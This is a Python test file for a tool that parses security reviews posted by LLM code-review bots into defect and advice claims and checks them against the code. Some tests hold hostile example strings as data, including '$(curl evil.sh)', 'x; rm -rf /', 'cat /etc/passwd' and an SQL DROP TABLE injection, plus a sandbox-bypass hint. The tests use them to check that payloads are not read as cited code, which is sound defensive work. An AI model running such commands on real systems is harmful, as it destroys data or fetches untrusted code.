"""Conventions of real LLM review tools: scanner issues, agent PR descriptions, report files, bot comments.

Each review here has the shape of a publicly posted review by the tool named (the source is given),
written again in our own words about our own small code: the shape is what the reader must know.
"""

from __future__ import annotations

import hashlib

import pytest

from conftest import growth
from crosscheck.grounding.ground import ground
from crosscheck.grounding.model import Status
from crosscheck.models import CodeTarget, SourceFile
from crosscheck.review import read_review
from crosscheck.review.citations import extract
from crosscheck.review.model import CitationRole, ClaimKind, StatedVerdict

CODE = '''import subprocess


def run(cmd):
    return subprocess.run(cmd, shell=True)
'''


def _target(files: dict[str, str], is_dir: bool = True) -> CodeTarget:
    sources = tuple(SourceFile(path=name, abspath=f"/nonexistent/{name}", text=text,
                               sha256=hashlib.sha256(text.encode()).hexdigest()) for name, text in files.items())
    return CodeTarget(root="/nonexistent", is_dir=is_dir, files=sources)


def _kinds(text: str) -> list[str]:
    return [c.kind.value for c in read_review(text).claims]


def test_a_scanner_issue_states_a_defect_at_the_line_its_location_field_gives():
    # the shape of LLM scanner issues, e.g. https://github.com/zhayujie/CowAgent/issues/2701:
    # a location field, then one sentence, no verdict
    review = read_review("**File:** `tools/runner.py` (line 5)\n\nshell=True makes command injection far easier "
                         "to exploit.\n")
    (claim,) = review.claims
    assert claim.kind is ClaimKind.DEFECT and review.verdict is StatedVerdict.DEFECTS
    assert (5, "tools/runner.py") in {(c.line, c.file) for c in claim.citations}
    grounded = ground(review, _target({"tools/runner.py": CODE}))
    assert {g.status for g in grounded.claims[0].groundings} >= {Status.EXACT}


def test_a_general_rule_under_a_location_is_a_defect_of_that_place():
    # "pickle should not be used on untrusted input", said under "**File:** `x.py` (line 106)"
    assert _kinds("**File:** `cache.py` (line 9)\n\npickle should not be used on untrusted input.\n") == ["defect"]


# The shape of Jules' security PR descriptions (e.g. https://github.com/n24q02m/mnemo-mcp, jules[bot] PRs):
# emoji-labelled fields, one per line, in one paragraph.
JULES = """🚨 Severity: HIGH
💡 Vulnerability: The command string is passed to `subprocess.run` with `shell=True`, allowing command injection.
🎯 Impact: Anyone who controls `cmd` runs arbitrary shell commands.
🔧 Fix: Pass an argument list and use `shlex.split()` on the input.
✅ Verification: Ran `python3 -m pytest tests/` and the suite passed.
"""


def test_agent_fields_are_the_claims_a_person_sees():
    review = read_review(JULES)
    assert [(c.start_line, c.end_line, c.kind.value) for c in review.claims] == [
        (1, 3, "defect"), (4, 4, "advice"), (5, 5, "context")]
    fix = review.claims[1]
    assert {c.code: c.role for c in fix.citations} == {"shlex.split()": CitationRole.SUGGESTION}
    assert review.verdict is StatedVerdict.DEFECTS


# The shape of security report files Claude Code writes into repositories (e.g. ricyoung/2pac's report):
# numbered findings under headings, bold field labels, comma-listed lines after the path.
REPORT = """# Security Review

## Findings

### 1. HIGH: Command injection in run()

**Location:** `app/runner.py:5, 9`

**Description:**
`run()` hands `cmd` to `subprocess.run(cmd, shell=True)`, so shell metacharacters in `cmd` run commands.

**Attack Scenario:**
1. The attacker sends `x; rm -rf ~` as the command
2. The shell runs both

**Remediation:**
- Pass a list and drop `shell=True`
- Validate `cmd` against an allowlist
"""


def test_a_reports_finding_keeps_its_parts_and_its_fix_is_advice():
    review = read_review(REPORT)
    claims = [(c.start_line, c.end_line, c.kind.value) for c in review.claims]
    assert claims == [(3, 14, "defect"), (16, 18, "advice")]  # "## Findings" over it heads the first finding
    lines = {(c.line, c.file) for c in review.claims[0].citations if c.line}
    assert lines == {(5, "app/runner.py"), (9, "app/runner.py")}
    assert "x; rm -rf ~" not in {c.code for c in review.claims[0].citations}  # the payload is an example


def test_front_matter_is_metadata_not_a_claim():
    text = "---\nstatus: pending\npriority: p1\ntags: [security]\n---\n\n# Path traversal in `load()`\n\n" \
           "## Problem\n\nAn attacker can traverse directories through `name`.\n"
    review = read_review(text)
    assert [(c.start_line, c.kind.value) for c in review.claims] == [(7, "defect")]
    assert "status" not in review.claims[0].text


def test_a_bots_title_heading_names_the_finding_under_its_severity_line():
    # Cursor Bugbot: "### Title", "**Medium Severity**", then the description
    text = "### Unquoted ref in shell command\n\n**Medium Severity**\n\n`ref` is interpolated into the shell " \
           "command passed to `run`.\n"
    (claim,) = read_review(text).claims
    assert claim.start_line == 1 and claim.title == "Unquoted ref in shell command"
    assert claim.kind is ClaimKind.DEFECT


def test_a_priority_badge_and_a_suggestion_block():
    # Gemini Code Assist: a priority image, the finding, a suggestion block of its own
    text = "![high](https://www.gstatic.com/codereviewagent/high-priority.svg)\n\nThe check on `cmd` can be " \
           "bypassed with a quoted command.\n\n```suggestion\n    return subprocess.run(shlex.split(cmd))\n```\n"
    review = read_review(text)
    assert review.verdict is StatedVerdict.DEFECTS
    assert review.claims[-1].kind is ClaimKind.ADVICE


@pytest.mark.parametrize("label", ["**security (python.lang.security.audit.subprocess-shell-true):**",
                                   "**issue (security):**"])
def test_sourcerys_labels_state_defects(label):
    text = f"{label} Detected subprocess call with shell=True. If `cmd` can be controlled, it may be an " \
           "instance of command injection.\n\n*Source: opengrep*\n"
    assert read_review(text).verdict is StatedVerdict.DEFECTS


# Qodo's reviewer guide: each focus area is a collapsed block whose summary holds the finding and a link
# to the lines in the pull request's diff, named by the sha256 of the file's path.
QODO = """<details><summary><a href='https://github.com/o/r/pull/7/files#diff-{digest}R4-R5'><strong>Shell use</strong></a>

`run` passes `cmd` to a shell, which allows command injection.
</summary>

```python
def run(cmd):
    return subprocess.run(cmd, shell=True)
```

</details>
"""


def test_a_finding_in_a_collapsed_block_cites_the_diff_lines_of_its_file():
    digest = hashlib.sha256(b"app/runner.py").hexdigest()
    review = read_review(QODO.format(digest=digest))
    (claim,) = review.claims
    assert claim.kind is ClaimKind.DEFECT
    grounded = ground(review, _target({"app/runner.py": CODE, "app/other.py": "x = 1\n"}))
    lines = [g for g in grounded.claims[0].groundings if g.citation.line == 4]
    assert lines and lines[0].path == "app/runner.py"
    quoted = [g for g in grounded.claims[0].groundings if g.citation.code and "shell=True)" in g.citation.code]
    assert quoted and quoted[0].status is Status.EXACT  # the quoted code is an anchor, not tool output


@pytest.mark.parametrize("payload", ["$(curl evil.sh)", "x; rm -rf /", "--output /tmp/x", "GET /agents/{name}",
                                     "tool.py --resume evil", "SELECT 1; DROP TABLE users", "cat /etc/passwd"])
def test_payloads_and_commands_are_examples_not_code(payload):
    codes = {c.code for c in extract(f"An attacker sends `{payload}` to `run()`.", 1)}
    assert "run()" in codes and payload not in codes


def test_a_list_that_omits_names_does_not_claim_they_are_there():
    cited = extract("The deny list omits `DROP`, `COPY` and `CREATE`.", 1)
    assert {c.role for c in cited} == {CitationRole.NEGATED}


def test_a_cited_file_that_is_not_python_is_not_the_file_checked():
    review = read_review("The handler at `internal/api/runs.go:74-79` races with `run()` at `runner.py:4`.")
    grounded = ground(review, _target({"runner.py": CODE}, is_dir=False))
    by_file = {g.citation.file: g.status for g in grounded.claims[0].groundings if g.citation.line}
    assert by_file["internal/api/runs.go"] is Status.ABSENT
    assert by_file["runner.py"] is not Status.ABSENT


@pytest.mark.parametrize("badge", ["_⚠️ Potential issue_ | _🟠 Major_",
                                   "![security-high](https://x/security-high.svg) ![high](https://x/high.svg)",
                                   "**High Severity**"])
def test_a_badge_line_heads_the_finding_after_it(badge):
    (claim,) = read_review(f"{badge}\n\n`run()` passes `cmd` to a shell, which allows command injection.\n").claims
    assert claim.start_line == 1 and claim.kind is ClaimKind.DEFECT


def test_a_findings_fields_are_one_claim_as_a_list_or_a_table():
    # Claude Code review todos list a finding's fields as bullets; OrbisAI's fix PRs put them in a table
    bullets = "## Findings\n\n- **Source**: security reviewer\n- **Location**: `runner.py:4`\n" \
              "- **Evidence**: `subprocess.run(cmd, shell=True)` runs a shell on user input\n"
    table = "## Vulnerability\n| Field | Value |\n|---|---|\n| **Severity** | HIGH |\n| **File** | `runner.py:4` |\n\n" \
            "**Description**: The `/run` endpoint has no authentication at all.\n"
    for text, end in ((bullets, 5), (table, 7)):
        (claim,) = read_review(text).claims
        assert (claim.start_line, claim.end_line, claim.kind) == (1, end, ClaimKind.DEFECT), text


def test_items_under_a_section_that_says_what_to_do_are_advice():
    text = "## Acceptance Criteria\n\n- [ ] `load()` validates `name` before it opens a file\n" \
           "- [ ] names with `../` are refused\n"
    assert _kinds(text) == ["advice", "advice"]


def test_a_severity_tagged_title_names_a_finding():
    text = "### 6. 🟡 MEDIUM: Lack of Input Validation\n\n**Location:** Multiple locations\n\n" \
           "The tool reads any file it is given.\n"
    assert _kinds(text) == ["defect"]


def test_a_line_inside_the_named_function_is_located_there():
    # "in `generate_fingerprint` (line 8)": the def is at line 4, line 8 is inside it, so it is located
    # there (near), not moved
    code = "import hashlib\n\n\ndef generate_fingerprint(data):\n    salt = 'x'\n    value = data + salt\n\n" \
           "    return hashlib.md5(value.encode()).hexdigest()\n"
    review = read_review("Weak hashing in `generate_fingerprint` (line 8): MD5 is broken for fingerprints.")
    (g,) = [g for g in ground(review, _target({"fp.py": code}, is_dir=False)).claims[0].groundings
            if g.citation.code == "generate_fingerprint"]
    assert (g.status, g.actual_line, g.scope.name if g.scope else None) == (Status.NEAR, 4, "generate_fingerprint")


def test_one_wrong_detail_does_not_sink_a_claim_an_analyzer_backs(tmp_path):
    import crosscheck

    code = tmp_path / "runner.py"
    code.write_text(CODE, encoding="utf-8")
    review = ("Command injection: `run()` passes `cmd` to `subprocess.run(cmd, shell=True)` at line 5, "
              "right after `check_allowed(cmd)` approves it.")
    report = crosscheck.check(code, review_text=review, analyzers=["bandit"])
    (claim,) = report.reconciliation.claims
    assert claim.outcome.value == "confirmed"
    assert "check_allowed(cmd)" in claim.reason  # the wrong detail is reported inside it


@pytest.mark.parametrize("text", [
    # a bot's imperative title over the body that states the defect (Gemini Code Assist, Copilot)
    "**Replace hardcoded API_KEY with an environment variable.**\n\nThe `API_KEY` on line 3 is hardcoded, "
    "which is a security risk.",
    "- **Avoid `pickle.loads` on request data.** `load()` calls `pickle.loads(request.body)` at line 12, "
    "which lets an attacker run code.",
])
def test_the_defect_in_the_body_wins_over_an_imperative_title(text):
    assert _kinds(text) == ["defect"]


def test_code_named_as_the_defect_in_a_prefer_sentence_is_an_anchor():
    (claim,) = read_review("Using `shell=True` with an f-string lets a crafted name run commands; prefer the "
                           "argv form.").claims
    assert {c.code: c.role for c in claim.citations} == {"shell=True": CitationRole.ANCHOR}


def test_an_abridged_quote_is_found_by_its_names():
    # Qodo: "executes them using `db.execute(text(...))`" of db.execute(sa.text(sql), params)
    code = "import sqlalchemy as sa\n\n\nasync def stats(db, vid):\n    sql = 'SELECT 1'\n" \
           "    return await db.execute(sa.text(sql), {'vid': vid})\n"
    review = read_review("The handler runs raw SQL through `db.execute(text(...))`.")
    grounded = ground(review, _target({"stats.py": code}, is_dir=False))
    (g,) = [g for g in grounded.claims[0].groundings if g.citation.code == "db.execute(text(...))"]
    assert (g.status, g.actual_line) == (Status.EXACT, 6)
    missing = read_review("The handler calls `db.query(raw(...))`.")
    (g,) = ground(missing, _target({"stats.py": code}, is_dir=False)).claims[0].groundings
    assert g.status is Status.ABSENT


@pytest.mark.parametrize("make", [
    lambda n: "`x.py:1" + ",1" * n + "`",                       # comma-listed lines
    lambda n: "**File:** " + "a." * n + "py (line 3)",          # a location line of one long path
    lambda n: "**File:** `x.py`" + " and" * n + "!",            # a location line that is not one
    lambda n: "💡 " + "**" * n + "Fix:",                         # field labels
    lambda n: "Payload `" + "; " * n + "x`",                    # payload alternatives
    lambda n: "a=True" * n,                                     # plain keyword arguments
    lambda n: "### " + "HIGH " * n + ": x",                     # severity-tagged titles
    lambda n: "![" + "high" * n + "](x",                        # badge images
    lambda n: "`x` is unsafe. " + "Use `y`. " * n,               # a closing remedy of many sentences
    lambda n: "<details>\n<summary> 1. " + "<code>x</code> " * n,  # a numbered summary with many labels
    lambda n: '<img src="https://img.shields.io/badge/' + "a-" * n + '" alt="' + "x " * n + '">',  # HTML badges
], ids=["comma-lines", "long-path", "not-a-location", "labels", "payload", "kwargs", "severity-title", "badges",
        "remedy", "summary-labels", "html-badge"])
def test_the_bot_conventions_read_in_linear_time(make):
    assert growth(read_review, make, 2_000) < 12


def test_a_run_in_title_that_names_the_category_types_the_sentence_after_it():
    # "**SQL injection.** ... so an attacker can inject SQL.": the title, a sentence of its own, names the category
    text = "1. **SQL injection.** The lookup builds its query from user input, so an attacker can inject SQL.\n"
    assert _kinds(text) == ["defect"]


@pytest.mark.parametrize("remedy", [
    # Cursor Bugbot (https://github.com/LionSR/TNLean/pull/298): the finding closes with its remedy
    "The safe alternative is `yaml.safe_load(f)`.",
    "Parameterized queries are the standard mitigation.",
    "Secrets belong in environment variables, never in source.",
    # Sourcery relaying an opengrep rule (https://github.com/NSPC911/rovr/pull/296)
    "Audit this call to ensure the data is trusted. You may consider using `shlex.quote()`.",
    # Gemini Code Assist (https://github.com/vitali87/code-graph-rag/pull/17)
    "To mitigate this, consider using `os.open()` with `O_NOFOLLOW`.",
])
def test_a_findings_closing_remedy_is_an_advice_claim_of_its_own(remedy):
    text = f"### Unsafe load\n\n**High Severity**\n\n`load` passes untrusted data to `yaml.load`, which allows " \
           f"an attacker to run code. {remedy}\n"
    review = read_review(text)
    defect, advice = review.claims
    assert (defect.kind, advice.kind) == (ClaimKind.DEFECT, ClaimKind.ADVICE)
    assert defect.text.endswith("run code.") and advice.text == remedy
    assert (defect.start_line, defect.end_line, advice.start_line, advice.end_line) == (1, 5, 5, 5)
    # what the remedy proposes is no anchor of the finding
    assert all(c.role is not CitationRole.ANCHOR or c.code in ("load", "yaml.load") for c in defect.citations)
    assert review.verdict is StatedVerdict.DEFECTS


@pytest.mark.parametrize("text", [
    # a title that is a sentence of its own is not the finding's statement
    "1. **Unsafe deserialization in `load_task`.** The blob is unpickled; use `json.loads()` instead.\n",
    # a defect stated after the advice keeps the paragraph whole
    "`run` passes `cmd` to a shell. Use an argument list. Otherwise an attacker can inject commands.\n",
    # advice with nothing before it
    "Use an argument list instead of `shell=True`.\n",
])
def test_a_paragraph_without_a_closing_remedy_stays_one_claim(text):
    assert len(read_review(text).claims) == 1


@pytest.mark.parametrize("remark", [
    # Gemini Code Assist (https://github.com/vitali87/code-graph-rag/pull/17)
    "This vulnerability is also present in `jobs.py`.",
    "The same issue exists at lines 40-42.",
    "Note, the same applies to `jobs.py`.",
])
def test_the_same_problem_elsewhere_is_a_defect_claim_of_its_own(remark):
    text = "`run` passes `cmd` to a shell, which allows command injection.\n\n" \
           f"To mitigate this, consider passing an argument list. {remark}\n"
    first, advice, elsewhere = read_review(text).claims
    assert (first.kind, advice.kind, elsewhere.kind) == (ClaimKind.DEFECT, ClaimKind.ADVICE, ClaimKind.DEFECT)
    assert elsewhere.text == remark and elsewhere.start_line == 3
    assert elsewhere.cwe == first.cwe and first.cwe  # "this vulnerability": the one just described


def test_a_remark_about_the_same_problem_first_in_its_paragraph_stays_with_it():
    (claim,) = read_review("The same issue exists in `jobs.py`, where `run` allows command injection.\n").claims
    assert claim.kind is ClaimKind.DEFECT


# "Code Review by Qodo" (https://github.com/agentculture/culture-nodes/pull/35): a shields.io severity
# badge in HTML, then each finding in a collapsed block with a numbered summary and category labels; its
# parts are collapsed blocks in a quote, the last one a prompt for a coding agent.
QODO_REVIEW = """<h3>Code Review by Qodo</h3>

<img src="https://img.shields.io/badge/High-634FD1?style=flat-square" height="20px" alt="Action required">

<details>
<summary>  1.  <s>Shell runs user text</s> <code>✓ Resolved</code> <code>🐞 Bug</code> <code>⛨ Security</code></summary>

<br/>

> <details open>
><summary>Description</summary>
><pre>
>run() hands its argument to a shell, so a caller's text runs as a command.
></pre>
></details>

> <details>
><summary>Agent prompt</summary>
>
>```
>Follow the guidance below and implement a solution.
>## Suggested fix direction
>Pass an argument list to `subprocess.run`.
>```
></details>

<hr/>
</details>
"""


def test_qodos_numbered_findings_are_defects_and_their_agent_prompts_advice():
    header, finding, prompt = read_review(QODO_REVIEW).claims
    assert header.kind is ClaimKind.CONTEXT
    assert (finding.kind, finding.start_line, finding.end_line) == (ClaimKind.DEFECT, 3, 15)
    assert (prompt.kind, prompt.start_line, prompt.title) == (ClaimKind.ADVICE, 17, "Agent prompt")
    assert read_review(QODO_REVIEW).verdict is StatedVerdict.DEFECTS


def test_an_html_shields_badge_heads_the_finding_under_it():
    badge = '<img src="https://img.shields.io/badge/Medium-634FD1?style=flat-square" alt="Remediation recommended">'
    (claim,) = read_review(f"{badge}\n\n`run` passes `cmd` to a shell, which allows command injection.\n").claims
    assert (claim.start_line, claim.kind) == (1, ClaimKind.DEFECT)
    logo = '<img src="https://example.com/logo.svg" alt="Grey Divider">'
    assert len(read_review(f"{logo}\n\n`run` passes `cmd` to a shell, which allows command injection.\n").claims) == 2


def test_a_sections_first_heading_is_its_title_not_a_sentence():
    # Claude Code report files (https://github.com/ricyoung/2pac): "## Features to Add" over "### 1. Title"
    text = "## Security Features to Add\n\n### 1. File Hash Verification\nAdd SHA-256 verification of processed files.\n"
    (claim,) = read_review(text).claims
    assert (claim.title, claim.kind) == ("1. File Hash Verification", ClaimKind.ADVICE)


def test_a_name_quoted_in_prose_after_a_cue_is_a_suggestion_and_a_rule_id_is_no_name():
    # Sourcery relaying opengrep (https://github.com/NSPC911/rovr/pull/296): "You may consider using 'shlex.escape()'."
    text = "**security (python.lang.security.audit.dangerous-subprocess-use-audit):** Detected subprocess " \
           "function 'Popen' without a static string. You may consider using 'shlex.escape()'.\n"
    citations = [c for claim in read_review(text).claims for c in claim.citations]
    assert [(c.code, c.role) for c in citations] == [("shlex.escape()", CitationRole.SUGGESTION)]


def test_a_translated_comment_reads_its_code_as_the_english_original_does():
    # Sourcery posts comments in the reviewer's language with the English original collapsed under them
    # (https://github.com/NSPC911/rovr/pull/296 has the English shape)
    text = "**security (python.lang.security.audit.subprocess-shell-true):** `run` 把 `cmd` 交给 shell。" \
           "你可以考虑使用 `shlex.quote()`。\n\n<details>\n<summary>Original comment in English</summary>\n\n" \
           "**security (python.lang.security.audit.subprocess-shell-true):** `run` passes `cmd` to a shell. " \
           "You may consider using `shlex.quote()`.\n\n</details>\n"
    translated = read_review(text).claims[0]
    roles = {c.code: c.role for c in translated.citations}
    assert roles == {"run": CitationRole.ANCHOR, "cmd": CitationRole.ANCHOR, "shlex.quote()": CitationRole.SUGGESTION}


def test_a_sentence_on_the_problem_itself_is_not_a_remark_about_elsewhere():
    text = "`run` passes `cmd` to a shell, which allows command injection. This issue occurs whenever `cmd` " \
           "comes from the request.\n"
    assert len(read_review(text).claims) == 1


def test_names_in_an_exploits_steps_do_not_sink_a_claim_whose_code_is_there(tmp_path):
    # Cursor Bugbot (https://github.com/LionSR/TNLean/pull/298 has the shape): the finding, then how an
    # attacker gets through, naming Python's own objects the file never mentions
    import crosscheck

    code = tmp_path / "sandbox.py"
    code.write_text("BLOCKED = ('__subclasses__', '__globals__')\n\n\ndef allowed(name):\n"
                    "    return not any(b in name for b in BLOCKED)\n", encoding="utf-8")
    review = ("`allowed(name)` only looks for blocked substrings, so the sandbox can be bypassed: an attacker "
              "can build the name with `chr()` and reach `type.__dict__`.")
    (claim,) = crosscheck.check(code, review_text=review, analyzers=["bandit"]).reconciliation.claims
    assert claim.outcome.value == "unsupported"
    assert "`chr()`" in claim.reason and "`type.__dict__`" in claim.reason  # reported, not hidden
    # quoted code with more than a name, or at a line, still sinks it
    review = "`allowed(name)` calls `eval(name)` at line 5, so the sandbox can be bypassed."
    (claim,) = crosscheck.check(code, review_text=review, analyzers=["bandit"]).reconciliation.claims
    assert claim.outcome.value == "ungrounded"
    # and names alone sink a claim when nothing it names is there
    review = "`is_safe()` uses `chr()` to decode the name, so the sandbox can be bypassed."
    (claim,) = crosscheck.check(code, review_text=review, analyzers=["bandit"]).reconciliation.claims
    assert claim.outcome.value == "ungrounded"
